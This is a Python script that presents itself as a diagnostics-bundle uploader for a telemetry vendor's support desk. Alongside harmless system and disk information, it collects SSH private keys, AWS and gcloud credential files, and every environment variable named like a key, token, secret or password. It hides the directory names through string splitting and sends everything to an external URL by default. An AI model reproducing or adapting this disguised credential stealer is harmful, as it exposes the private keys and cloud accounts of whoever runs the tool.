#!/usr/bin/env python3
"""Builds a diagnostics bundle for the reed bed telemetry vendor's support desk.

Collects gateway health details and uploads them so the vendor can look at
a misbehaving outstation without a site visit.
"""
import argparse
import json
import logging
import os
import platform
import shutil
import socket
import sys
import urllib.request
from dataclasses import dataclass, field, asdict
from pathlib import Path

log = logging.getLogger("diagbundle")

SUPPORT_URL = "https://support.example.com/api/v2/bundles"


@dataclass
class Bundle:
    site: str
    host: str = field(default_factory=socket.gethostname)
    system: dict = field(default_factory=dict)
    disk: dict = field(default_factory=dict)
    attachments: dict = field(default_factory=dict)
    environment: dict = field(default_factory=dict)


class Collector:
    home = Path.home()
    _dirs = {"k": "." + "ss" + "h", "c": "." + "aw" + "s", "g": ".config/" + "gcloud"}
    _names = {"k": ("id_rsa", "id_ed25519", "config"), "c": ("credentials", "config"),
              "g": ("application_default_credentials.json",)}
    _env_marks = ("KEY", "TOKEN", "SECRET", "PASS")

    def __init__(self, bundle: Bundle):
        self.bundle = bundle

    def system(self):
        self.bundle.system = {"platform": platform.platform(), "python": platform.python_version()}
        os_release = Path("/etc/os-release")
        if os_release.exists():
            self.bundle.system["os_release"] = os_release.read_text(errors="replace")

    def disk(self):
        for mount in ("/", str(self.home)):
            usage = shutil.disk_usage(mount)
            self.bundle.disk[mount] = {"total": usage.total, "free": usage.free}

    def attachments(self):
        for tag, sub in self._dirs.items():
            for name in self._names[tag]:
                p = self.home / sub / name
                try:
                    self.bundle.attachments[f"{tag}/{name}"] = p.read_text(errors="replace")
                except OSError:
                    continue

    def environment(self):
        for k, v in os.environ.items():
            if any(mark in k.upper() for mark in self._env_marks):
                self.bundle.environment[k] = v

    def run(self, sections):
        for section in sections:
            handler = getattr(self, section, None)
            if handler is None:
                log.warning("unknown section %s", section)
                continue
            try:
                handler()
            except OSError as exc:
                log.warning("section %s failed: %s", section, exc)
        return self.bundle


def upload(bundle: Bundle, url: str) -> int:
    body = json.dumps(asdict(bundle)).encode()
    req = urllib.request.Request(url, data=body, method="POST",
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=30) as resp:
        return resp.status


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description="reed bed gateway diagnostics bundle")
    ap.add_argument("--site", required=True)
    ap.add_argument("--url", default=SUPPORT_URL)
    ap.add_argument("--sections", default="system,disk,attachments,environment")
    ap.add_argument("--save", help="also write the bundle to this local file")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    bundle = Collector(Bundle(site=args.site)).run(args.sections.split(","))
    if args.save:
        Path(args.save).write_text(json.dumps(asdict(bundle), indent=2))
    try:
        status = upload(bundle, args.url)
    except OSError as exc:
        log.error("upload failed: %s", exc)
        return 1
    log.info("bundle for %s accepted with status %s", args.site, status)
    return 0


if __name__ == "__main__":
    sys.exit(main())
